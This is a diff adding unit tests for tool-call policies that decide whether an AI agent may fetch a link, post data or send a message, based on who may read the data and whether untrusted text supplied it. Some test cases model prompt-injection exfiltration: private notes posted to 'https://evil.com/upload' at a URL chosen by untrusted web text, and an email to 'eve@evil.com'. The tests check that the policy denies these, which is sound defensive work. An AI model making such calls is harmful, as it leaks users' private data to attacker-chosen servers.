@@ -228,6 +228,54 @@ describe("webRequestPolicy", () => {
   });
 });
 
+describe("webRequestPolicy({ approver }): a private link the person asked may read is theirs to open", () => {
+  const policy = webRequestPolicy({ approver: "ravi" });
+  const fromZoe = Label.of({ readers: ["ravi", "zoe"], trusted: false, sources: ["read_inbox#1:message:zoe"] });
+
+  it("asks, naming the link, who may read it, whose message it came from and the server that would see it", () => {
+    const d = policy(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", fromZoe) }));
+    expect(d.kind).toBe("ask");
+    expect(d.reason).toContain('`url` ("https://partner.fjord.example/guide") is private (readable only by ravi and zoe): it came from a message from zoe (read_inbox call #1)');
+    expect(d.reason).toContain("if approved, the web server partner.fjord.example learns it. You (ravi) may read all of it");
+    // Zoe chose the server, which is asked about too: both reasons are shown.
+    expect(d.reason).toContain("untrusted text chose which server is contacted");
+  });
+
+  it("still denies a link that is someone else's secret, and without an approver denies as before", () => {
+    const theirs = Label.of({ readers: ["dana", "zoe"], trusted: false, sources: ["chat:zoe in #partners"] });
+    expect(policy(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", theirs) })).kind).toBe("deny");
+    expect(webRequestPolicy()(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", fromZoe) })).kind).toBe("deny");
+  });
+
+  it("denies private content the approver may not read, where without an approver it asked", () => {
+    const call = makeCall("post", { url: "https://paste.corp.com", body: notes() });
+    expect(webRequestPolicy()(call).kind).toBe("ask");
+    expect(webRequestPolicy({ approver: "alice@corp.com" })(call).kind).toBe("ask");
+    const d = webRequestPolicy({ approver: "ravi@corp.com" })(call);
+    expect(d.kind).toBe("deny");
+    expect(d.reason).toContain("the call would show the person asked, ravi@corp.com, data they may not read");
+  });
+
+  it("keeps denying what no person can check: private data to a server untrusted text chose", () => {
+    const url = labeled("https://evil.com/upload", Label.untrusted("fetch#2:web:https://blog.example/post"));
+    const d = webRequestPolicy({ approver: "alice@corp.com" })(makeCall("post", { url, body: notes() }));
+    expect(d.kind).toBe("deny");
+    expect(d.reason).toContain("untrusted text chose where the data goes");
+  });
+});
+
+describe("message policies with an approver: a secret of someone else is not shown to the person asked", () => {
+  it("asks when the approver may read the private message, denies when they may not", () => {
+    const call = makeCall("send", { to: "carol@corp.com", body: notes() });
+    expect(messagePolicy({ approver: "alice@corp.com" })(call).kind).toBe("ask");
+    expect(messagePolicy()(call).kind).toBe("ask");
+    const d = messagePolicy({ approver: "mallory@corp.com" })(call);
+    expect(d.kind).toBe("deny");
+    expect(d.reason).toContain("carol@corp.com");
+    expect(d.reason).toContain("the call would show the person asked, mallory@corp.com, data they may not read");
+  });
+});
+
 describe("ready policies refuse tools whose arguments they cannot find", () => {
   it("denies an email with none of the recipient arguments, with a hint to configure them", () => {
     const d = emailPolicy()(makeCall("send_email", { recipient_emails: [labeled("eve@evil.com", eve)], body: "hi" }));
